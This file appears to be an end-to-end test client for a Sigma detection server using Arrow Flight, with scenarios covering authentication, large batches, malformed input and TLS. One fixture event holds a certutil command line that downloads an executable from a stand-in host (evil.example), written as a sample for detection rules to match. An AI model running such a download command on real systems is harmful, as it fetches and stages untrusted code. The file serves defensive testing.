"""A real pyarrow Flight client driving sigma's Flight server.

Usage: flight_client.py <grpc://host:port | grpc+tls://host:port> <scenario> [token]
With grpc+tls, SIGMA_TEST_TLS_ROOTS names the PEM file of the CA to trust.
Prints one JSON object on stdout with what it saw; exits non-zero on failure.
Every call has a timeout so the e2e test can never hang on it.
"""

import json
import os
import sys

import pyarrow as pa
import pyarrow.flight as flight

TIMEOUT = 60.0

EVENTS = [
    {"Image": "C:\\Windows\\System32\\certutil.exe", "CommandLine": "certutil -urlcache -f http://evil.example/x.exe x.exe", "OriginalFileName": "CertUtil.exe"},
    {"Image": "C:\\Windows\\notepad.exe", "CommandLine": "notepad a.txt", "OriginalFileName": "NOTEPAD.EXE"},
]


def options(token=None):
    headers = [(b"authorization", f"Bearer {token}".encode())] if token else []
    return flight.FlightCallOptions(timeout=TIMEOUT, headers=headers)


def events_batch(rows):
    return pa.RecordBatch.from_pylist(rows, schema=pa.schema([("Image", pa.string()), ("CommandLine", pa.string()), ("OriginalFileName", pa.string())]))


def do_put(client, path, batches, token=None):
    writer, reader = client.do_put(flight.FlightDescriptor.for_path(*path), batches[0].schema, options(token))
    acks = []
    for batch in batches:
        writer.write_batch(batch)
        buf = reader.read()  # one PutResult per batch, after the sinks
        acks.append(json.loads(buf.to_pybytes()))
    writer.done_writing()
    writer.close()
    return acks


def scenario_basic(client, token):
    out = {}
    out["acks"] = do_put(client, ["e2e", "basic"], [events_batch(EVENTS), events_batch(EVENTS[1:]), events_batch(EVENTS * 3)], token)
    json_batch = pa.RecordBatch.from_pylist([{"json": json.dumps(e)} for e in EVENTS], schema=pa.schema([("json", pa.string())]))
    out["json_acks"] = do_put(client, ["e2e", "json"], [json_batch], token)
    table = client.do_get(flight.Ticket(b"e2e/basic"), options(token)).read_all()
    out["get_rows"] = table.num_rows
    out["get_columns"] = table.column_names
    out["get_first_rule"] = table.column("rule_title")[0].as_py()
    flights = list(client.list_flights(b"", options(token)))
    out["flights"] = sorted(f.descriptor.path[0].decode() + "/" + f.descriptor.path[1].decode() for f in flights)
    info = client.get_flight_info(flight.FlightDescriptor.for_path("e2e", "basic"), options(token))
    out["info_records"] = info.total_records
    out["info_ticket"] = info.endpoints[0].ticket.ticket.decode()
    schema = client.get_schema(flight.FlightDescriptor.for_path("input"), options(token)).schema
    out["input_schema"] = schema.names
    out["actions"] = sorted(a.type for a in client.list_actions(options(token)))
    status = json.loads(b"".join(r.body.to_pybytes() for r in client.do_action(flight.Action("status", b""), options(token))))
    out["status_batches"] = status["server"]["batches"]
    rules = json.loads(b"".join(r.body.to_pybytes() for r in client.do_action(flight.Action("rules", b""), options(token))))
    out["rules"] = len(rules)
    # DoExchange: one reply batch per input batch, in order.
    writer, reader = client.do_exchange(flight.FlightDescriptor.for_path("e2e", "exchange"), options(token))
    writer.begin(events_batch(EVENTS).schema)
    counts = []
    for batch in [events_batch(EVENTS), events_batch(EVENTS[1:]), events_batch(EVENTS[:1] * 4)]:
        writer.write_batch(batch)
        chunk = reader.read_chunk()
        counts.append(chunk.data.num_rows)
    writer.done_writing()
    out["exchange_counts"] = counts
    writer.close()
    return out


def scenario_auth(client, token):
    out = {}
    try:
        list(client.list_actions(options(None)))
        out["anonymous"] = "accepted"
    except flight.FlightUnauthenticatedError:
        out["anonymous"] = "unauthenticated"
    header = client.authenticate_basic_token(b"sigma", token.encode(), flight.FlightCallOptions(timeout=TIMEOUT))
    out["handshake_header"] = header[0].decode()
    call = flight.FlightCallOptions(timeout=TIMEOUT, headers=[header])
    out["with_token_actions"] = sorted(a.type for a in client.list_actions(call))
    reload = json.loads(b"".join(r.body.to_pybytes() for r in client.do_action(flight.Action("reload", b""), call)))
    out["reload"] = reload
    return out


def scenario_big(client, token):
    # ~64 MiB in one batch (one gRPC message): three columns of ~21 MiB.
    n = 64 * 1024
    line = "x" * 345
    rows = pa.array([f"{line} {i}" for i in range(n)], pa.string())
    batch = pa.RecordBatch.from_arrays([rows, rows, rows.slice(0, n)], names=["CommandLine", "Image", "OriginalFileName"])
    size = batch.nbytes
    acks = do_put(client, ["e2e", "big"], [batch], token)
    return {"bytes": size, "acks": acks}


def scenario_malformed(client, token):
    out = {}
    # Decreasing Utf8 offsets pass pyarrow's cheap validation (first and last offsets are in
    # range), so the client sends them; only a full validation, which the server does, sees them.
    good = events_batch(EVENTS)
    values = pa.py_buffer(b"abcdefghijklmnop")
    offsets = pa.py_buffer(b"".join(v.to_bytes(4, "little") for v in [0, 12, 4]))
    broken_column = pa.Array.from_buffers(pa.string(), 2, [None, offsets, values])
    broken = pa.RecordBatch.from_arrays([broken_column] * 3, schema=good.schema)
    writer, reader = client.do_put(flight.FlightDescriptor.for_path("e2e", "bad"), good.schema, options(token))
    try:
        writer.write_batch(broken)
        reader.read()
        writer.done_writing()
        writer.close()
        out["malformed"] = "accepted"
    except flight.FlightError as e:
        out["malformed"] = type(e).__name__
        out["message"] = str(e).splitlines()[0]
    except pa.ArrowInvalid as e:
        out["malformed"] = "ArrowInvalid"
        out["message"] = str(e).splitlines()[0]
    # The server keeps serving.
    out["after"] = do_put(client, ["e2e", "after"], [events_batch(EVENTS)], token)
    return out


def refusal(location, **kwargs):
    """How a connection to `location` fails a call, or "accepted"."""
    client = flight.connect(location, **kwargs)
    try:
        list(client.list_actions(flight.FlightCallOptions(timeout=15.0)))
        return "accepted"
    except flight.FlightError as e:
        return type(e).__name__
    finally:
        client.close()


def scenario_tls(client, token):
    out = {"acks": do_put(client, ["e2e", "tls"], [events_batch(EVENTS)], token)}
    out["actions"] = sorted(a.type for a in client.list_actions(options(token)))
    plain_location = sys.argv[1].replace("grpc+tls://", "grpc://")
    out["plaintext"] = refusal(plain_location)
    out["untrusted"] = refusal(sys.argv[1])
    return out


def connect(location):
    roots = os.environ.get("SIGMA_TEST_TLS_ROOTS")
    if location.startswith("grpc+tls://") and roots:
        with open(roots, "rb") as f:
            return flight.connect(location, tls_root_certs=f.read())
    return flight.connect(location)


def main():
    location, scenario = sys.argv[1], sys.argv[2]
    token = sys.argv[3] if len(sys.argv) > 3 else None
    client = connect(location)
    try:
        client.wait_for_available(timeout=TIMEOUT)
    except flight.FlightUnauthenticatedError:
        pass  # the server is up; it wants a token for ListFlights
    scenarios = {"basic": scenario_basic, "auth": scenario_auth, "big": scenario_big, "malformed": scenario_malformed, "tls": scenario_tls}
    result = scenarios[scenario](client, token)
    print(json.dumps(result))
    client.close()


if __name__ == "__main__":
    main()
